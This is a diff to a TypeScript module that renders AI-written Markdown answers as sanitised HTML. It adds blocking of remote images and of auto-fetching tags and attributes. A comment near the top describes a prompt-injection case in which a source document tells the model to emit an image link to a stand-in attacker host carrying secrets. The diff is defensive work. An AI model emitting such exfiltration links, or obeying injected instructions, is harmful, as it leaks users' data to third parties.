@@ -1,5 +1,11 @@
 // Markdown to safe HTML for answers: marked (GFM), highlight.js core with the languages people
 // paste most, citations "[n]" turned into buttons, everything sanitised by DOMPurify.
+//
+// An answer is text a model wrote from documents anyone could have written: a document that
+// tells the model to emit `![](https://attacker/?q=<secrets>)` must not make the browser fetch
+// anything. Images load only from this origin or `data:`; any other image becomes a plain link
+// the user may follow, and no other element may load a remote resource by itself (the page's
+// Content-Security-Policy is the second wall).
 
 import DOMPurify from "dompurify";
 import hljs from "highlight.js/lib/core";
@@ -78,12 +84,46 @@ marked.use({
   ],
 });
 
+/** True for a URL an image may load from: this page's origin, or inline `data:` images. */
+export function isLocalImageSource(src: string, base: string = window.location.href): boolean {
+  if (/^data:image\//i.test(src.trim())) return true;
+  try {
+    const url = new URL(src, base);
+    return url.origin === new URL(base).origin && (url.protocol === "http:" || url.protocol === "https:");
+  } catch {
+    return false;
+  }
+}
+
+// Elements that fetch by themselves and that an answer never needs.
+const FORBIDDEN_TAGS = ["style", "form", "input", "video", "audio", "source", "track", "picture", "iframe", "object", "embed", "link", "meta", "base", "svg", "math"];
+// Attributes that fetch or ping by themselves.
+const FORBIDDEN_ATTRS = ["srcset", "ping", "poster", "background", "lowsrc", "dynsrc", "style"];
+
+const purifier = DOMPurify();
+purifier.addHook("afterSanitizeAttributes", (node) => {
+  if (node.nodeName !== "IMG") return;
+  const img = node as HTMLImageElement;
+  const src = img.getAttribute("src") ?? "";
+  if (src && isLocalImageSource(src)) return;
+  // A remote image: show a link the user may choose to open, never fetched automatically.
+  const doc = img.ownerDocument;
+  const link = doc.createElement("a");
+  link.setAttribute("href", src);
+  link.setAttribute("class", "blocked-image");
+  link.setAttribute("rel", "noopener noreferrer nofollow");
+  link.setAttribute("title", "Remote image not loaded");
+  link.textContent = `[image: ${img.getAttribute("alt") || "remote"}]`;
+  img.replaceWith(link);
+});
+
 /** Sanitised HTML of a Markdown answer. */
 export function renderMarkdown(text: string): string {
   const html = marked.parse(text, { async: false });
-  return DOMPurify.sanitize(html, {
+  return purifier.sanitize(html, {
     ADD_ATTR: ["data-cite", "data-copy-code", "target"],
-    FORBID_TAGS: ["style", "form", "input"],
+    FORBID_TAGS: FORBIDDEN_TAGS,
+    FORBID_ATTR: FORBIDDEN_ATTRS,
   });
 }
 
